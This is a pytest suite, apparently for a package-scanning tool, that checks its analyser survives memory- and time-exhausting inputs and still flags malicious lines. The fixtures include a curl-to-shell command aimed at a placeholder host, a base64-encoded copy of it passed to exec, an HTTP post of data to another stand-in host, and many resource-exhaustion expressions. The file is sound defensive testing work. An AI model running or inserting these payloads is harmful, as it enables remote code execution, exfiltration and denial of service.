"""Code that would cost whoever follows it all memory or time: it is given up where it stands, and what stands beside it is
told as ever."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mlsupply.evidence.module_facts import ModuleFacts
from mlsupply.evidence.pool import Lost, Pool, Task
from mlsupply.evidence.python.values import effort
from mlsupply.evidence.stored import module_from_json
from tests.made_wheels import wheel

HARM = "import os\nos.system('curl https://c.example/x | sh')\n"
BIG = "B = 'a' * 4000000\n"
BEFORE = "import base64, codecs, itertools, json, os, re, shlex, struct, textwrap, zlib\n"


@pytest.fixture(scope="module")
def pool() -> Iterator[Pool]:
    """A worker as in a scan, with its limit of memory, and less time."""
    with Pool(1, seconds=30) as made:
        yield made


def followed(pool: Pool, text: str) -> ModuleFacts:
    """The facts of a module with this text, then harm. Fails where the worker did not answer."""
    (answer,) = pool.map([Task("module", "demo/__init__.py", "", (BEFORE + text + "\n" + HARM).encode())])
    assert not isinstance(answer, Lost), answer
    return module_from_json(answer)


def harms(facts: ModuleFacts) -> bool:
    return "runs-downloaded" in {fact.behaviour for fact, _ in facts.facts}


@pytest.mark.parametrize(
    "taking",
    [
        "list({0})", "tuple({0})", "set({0})", "sorted({0})", "[*{0}]", "sum({0})", "max({0})", "min({0})", "bytes({0})",
        "'5' in {0}", "list(reversed({0}))", "list(map(str, {0}))", "''.join(str(one) for one in {0})", "dict.fromkeys({0})",
        "list(zip({0}, {0}))", "list(enumerate({0}))", "any({0})", "[one for one in {0}]", "{{one: one for one in {0}}}",
    ],
)  # fmt: skip
def test_a_range_without_end_is_not_gone_through(pool: Pool, taking: str) -> None:
    assert harms(followed(pool, f"x = {taking.format('range(10**12)')}\nos.system(str(x))"))


def test_a_loop_over_a_range_without_end_is_left(pool: Pool) -> None:
    assert harms(followed(pool, "for one in range(10**12):\n    x = str(one)\nos.system(x)\na, *b = range(10**12)"))


TURNS = range(30)
DOUBLED = {
    "lists": "D = ['a']\n" + "".join("D = [D, D]\n" for _ in TURNS),
    "tuples": "D = ('a',)\n" + "".join("D = (D, D)\n" for _ in TURNS),
    "tables": "D = {'a': 1}\n" + "".join("D = {'a': D, 'b': D}\n" for _ in TURNS),
    "lists that are filled": "D = ['a']\n"
    + "".join(f"N{n} = []\nN{n}.append(D)\nN{n}.append(D)\nD = N{n}\n" for n in TURNS),
    "lists that are set": "D = ['a']\n" + "".join(f"N{n} = [0, 0]\nN{n}[0] = D\nN{n}[1] = D\nD = N{n}\n" for n in TURNS),
    "rows in a loop": "D = ['a']\nfor one in range(30):\n    D = [D, D]\n",
}


@pytest.mark.parametrize("kind", DOUBLED)
@pytest.mark.parametrize(
    "using",
    [
        "repr({0})", "str({0})", "'%s' % ({0},)", "'{{}}'.format({0})", "f'{{{0}}}'", "json.dumps({0})", "{0} == {0}[0]",
        "{{{0}: 1}}", "{0} in [{0}, 1]", "min({0}, {0})", "ascii({0})", "sum({0}, [])", "hash({0})", "{0} + {0}",
    ],
)  # fmt: skip
def test_a_value_that_holds_itself_many_times_over_is_not_written_out(pool: Pool, kind: str, using: str) -> None:
    facts = followed(pool, DOUBLED[kind] + f"x = {using.format('D')}\nexec(str(x))")
    assert harms(facts)


@pytest.mark.parametrize(
    "making",
    [
        "B.join([B, B, B])", "B.join(B)", "''.join([B] * 60000)", "B.translate({97: B})",
        "B.translate(str.maketrans('a', B))",
        "(3).to_bytes(900000000, 'big')", "B.replace('a', B)", "B.encode('idna')", "B.encode().decode('punycode')",
        "codecs.decode(B, 'punycode')", "'a'.ljust(10**10)", "'%09999999999d' % 1", "f'{1:>9999999999}'", "B * 10**6",
        "[B] * 10**9", "bytes(10**10)", "9**9**9", "1 << 10**10", "list(itertools.repeat('a', 10**10))",
        "struct.pack('9999999999s', b'a')", "shlex.join([B] * 6000)", "textwrap.indent(B, B)",
    ],
)  # fmt: skip
def test_what_would_be_too_long_is_not_made(pool: Pool, making: str) -> None:
    assert harms(followed(pool, BIG + f"x = {making}\nexec(x)"))


@pytest.mark.parametrize(
    "line",
    ["x{0} = B + '{0}'", "x{0} = B + str(os.getpid())", "x{0} = list(range(65536))", "x{0} = B.split('a')", "x = B.upper()"],
)
def test_many_long_values_are_given_up_with_a_word_and_the_rest_is_followed(pool: Pool, line: str) -> None:
    facts = followed(pool, BIG + "\n".join(line.format(at) for at in range(600)))
    assert harms(facts)
    assert facts.stopped == "too much to follow: texts and lists that it makes are longer than are kept"


def test_the_next_module_has_the_whole_allowance_again(pool: Pool) -> None:
    assert followed(pool, BIG + "x = B.upper()\n" * 600).stopped
    coded = "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwczovL2MuZXhhbXBsZS94fHNoJyk="  # import os;os.system(…)
    text = f"{BIG}exec(base64.b64decode(B.replace('a', '') + '{coded}'))\n"
    facts = followed(pool, text)
    assert not facts.stopped
    assert "runs-decoded" in {fact.behaviour for fact, _ in facts.facts}


def test_a_function_that_all_others_call_is_looked_for_in_each_of_them_once(pool: Pool) -> None:
    others = "".join(f"def f{at}(given):\n    send(given)\n" for at in range(20_000))
    facts = followed(
        pool, f"import requests\ndef send(given):\n    requests.post('https://h.example', data=given)\n{others}"
    )
    assert harms(facts)


def test_nested_values_are_weighed_at_each_place_where_they_stand() -> None:
    one = list[object]([1, 2])
    assert effort.within_bounds([one] * 1_000)
    assert effort.within_bounds({"a": one, "b": {"c": one}})
    for _ in range(30):
        one = [one, one]
    assert not effort.within_bounds(one)
    assert not effort.within_bounds({"a": {"b": one}})
    assert effort.may_hold([], [1, 2])
    assert not effort.may_hold([], one)


# What makes one of the expressions that choose what is followed go over the same characters again and again, if any does.
BAITS = {
    "blanks": " " * 400_000 + "x",
    "semicolons and blanks": (";" + " " * 70) * 6_000,
    "lines that go on": "\\" + "\n" * 400_000,
    "an import of nothing": "from" + " " * 400_000,
    "imports in one line": "import " * 60_000,
    "names of names": "getattr" * 60_000,
    "copies": "copy" * 100_000,
    "a folder of settings": "jupyter_" * 50_000,
    "a part of an installer": "pip._internal" * 30_000,
    "a client": "openai.OpenAI" * 30_000,
    "listeners": "add_" * 100_000,
}


@pytest.mark.parametrize("kind", ["text", "comment", "name"])
def test_a_bait_for_a_slow_expression_costs_no_module_its_look(tmp_path: Path, kind: str) -> None:
    members = {}
    for at, bait in enumerate(BAITS.values()):
        word = "".join(letter if letter.isalnum() else "_" for letter in bait)
        beside = {"text": f"X = r'''{bait} '''\n", "comment": f"# {bait}".replace("\n", "\n# "), "name": f"x.{word}(print)"}
        members[f"demo/m{at}.py"] = f"{beside[kind]}\n{HARM}".encode()
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    path.write_bytes(wheel(members))
    environ = {"PATH": os.environ["PATH"], "MLSUPPLY_CACHE_DIR": str(tmp_path / "cache"), "HOME": str(tmp_path)}
    command = [sys.executable, "-P", "-m", "mlsupply", "inspect", str(path), "-o", "json"]
    done = subprocess.run(command, cwd=tmp_path, env=environ, capture_output=True, check=False, timeout=60)
    report = json.loads(done.stdout)
    assert {place["member"] for one in report["findings"] for place in one["places"]} == set(members)
    assert {one["title"] for one in report["findings"]} == {"A function pipes a download into a shell"}
